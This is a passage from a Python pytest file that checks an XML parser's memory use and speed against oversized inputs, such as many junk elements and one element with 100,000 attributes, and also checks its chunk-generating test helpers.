    outcome = run_child("junk_elements")
    peak = outcome["peak_kib"]
    assert isinstance(peak, int)
    assert peak - baseline_kib < 160 * 1024, (
        f"peak {peak // 1024} MiB vs baseline {baseline_kib // 1024} MiB for 1 MB of input: "
        f"{outcome}"
    )


@pytest.mark.timeout(30)
def test_an_element_with_100000_attributes_is_handled_quickly() -> None:
    """~1 MB of attributes on one element: refused or parsed, but in seconds, not minutes."""
    outcome = run_child("many_attributes", timeout=5)
    assert outcome["error"] in (None, "MalformedXMLError", "UnsafeXMLError"), outcome


def test_chunk_helpers_are_well_formed() -> None:
    """The generators the size tests rely on produce what they claim."""
    sample: Iterable[bytes] = change_list_chunks(3 * MIB, MIB)
    pieces = list(sample)
    assert [len(p) for p in pieces] == [MIB, MIB, MIB]
    assert b"".join(pieces).startswith(PROLOG)
    assert len(change_list_of_size(10_000)) == 10_000
    assert len(parse_document(change_list_of_size(10_000)).entries) > 10
